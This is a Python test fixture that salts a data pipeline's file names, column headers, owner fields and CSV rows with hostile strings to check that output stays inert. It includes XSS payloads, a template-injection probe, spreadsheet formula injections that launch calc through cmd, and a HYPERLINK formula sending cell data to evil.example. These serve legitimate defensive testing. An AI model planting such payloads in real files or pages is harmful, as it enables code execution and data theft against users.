"""A night whose extracts, files, owners and reasons are full of strings that break programs."""

from pathlib import Path
from typing import Any

import yaml

from tests.conftest import CHECKOUT
from tests.scenario import Rows, deliver, scenario_project, scenario_rows

# What would do something if it were not text; `pwned` is what a browser test looks for.
ACTIVE = [
    "<script>parent.pwned=1;pwned=1</script>",
    '"><img src=x onerror="parent.pwned=1">',
    "{{ 700007*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "'><svg/onload=parent.pwned=1>",
    "</style></title></textarea><script>parent.pwned=1</script>",
    "javascript:parent.pwned=1",
    "<!-- --><base href='https://evil.example/'><link rel=stylesheet href=https://evil.example/x.css>",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "harmless;=1+1",
    "\x1b[2J\x1b]0;pwned\x07\x1b[31mred",
    "[bold red]markup[/bold red][/]",
    "a\u202egnp.exe\u2066b\u200b",
]  # fmt: skip
HOSTILE_FILE = '"><svg onload=parent.pwned=1>.csv'
HOSTILE_HEADER = "<script>parent.pwned=1</script>"
_PLACES = {
    "crm_customers": ("customer_id", "full_name first_name last_name email phone address_line1 address_line2 city"),
    "orders": ("order_id", "customer_name email phone ship_to_name ship_to_line1 ship_to_city"),
    "shipments": ("shipment_id", "carrier tracking_number recipient_name line1 line2 city"),
    "crm_interactions": ("interaction_id", "reason outcome preferred_name language"),
    "inventory": ("sku", "product_name location"),
}


def naughty_strings() -> list[str]:
    """All of the Big List of Naughty Strings, and ours."""
    lines = (CHECKOUT / "tests/naughty/blns.txt").read_text(encoding="utf-8").split("\n")
    return ACTIVE + [line for line in lines if line and not line.startswith("#")]


def salted(rows: Rows) -> Rows:
    """The rows, and one for each string: it is in the text of its row, in every second key, and every third everywhere.

    The sources take turns; what is active is in all of them.
    """
    for turn, (source, (key, columns)) in enumerate(_PLACES.items()):
        given = list(rows[source])
        for number, string in enumerate(naughty_strings()):
            if number >= len(ACTIVE) and number % len(_PLACES) != turn:
                continue
            row: dict[str, Any] = dict(given[number % len(given)])
            row |= dict.fromkeys(columns.split(), string)
            if number % 3 == 0:
                row |= {name: string for name, value in row.items() if isinstance(value, str)}
            rows[source].append(row | {key: f"{string}{number}" if number % 2 else f"{key[0].upper()}9{number:06}"})
    return rows


def hostile_project(folder: Path) -> Path:
    """The scenario's project, salted, with hostile names of a file, a column, owners, reasons and itself."""
    scenario_project(folder)
    edit(folder / "pipelines/sources/shipments.yml", {"location": {"path": HOSTILE_FILE}})
    contract = yaml.safe_load((folder / "pipelines/sources/crm_customers.yml").read_text(encoding="utf-8"))
    contract["columns"]["city"]["from"] = HOSTILE_HEADER
    edit(folder / "pipelines/sources/crm_customers.yml", contract)
    project = folder / "pipelines/nightly.yml"
    settings = yaml.safe_load(project.read_text(encoding="utf-8"))
    for owner, string in zip(settings["owners"].values(), ACTIVE, strict=False):
        owner |= {"title": string, "contact": string}
    gates = {"unparsed_lines": 1000, "quarantine_share": 1.0, "id_churn": 1.0}
    edit(project, settings | {"title": ACTIVE[1], "gates": gates})
    deliver(folder, salted(scenario_rows()))
    accounts = folder / "data/sample/crm_customers.csv"
    header, newline, rest = accounts.read_text(encoding="utf-8").partition("\n")
    accounts.write_text(header.replace(",city,", f",{HOSTILE_HEADER},") + newline + rest, encoding="utf-8")
    return folder


def edit(path: Path, changes: dict[str, Any]) -> None:
    """Change parts of a YAML file."""
    held = yaml.safe_load(path.read_text(encoding="utf-8")) | changes
    path.write_text(yaml.safe_dump(held, sort_keys=False), encoding="utf-8")
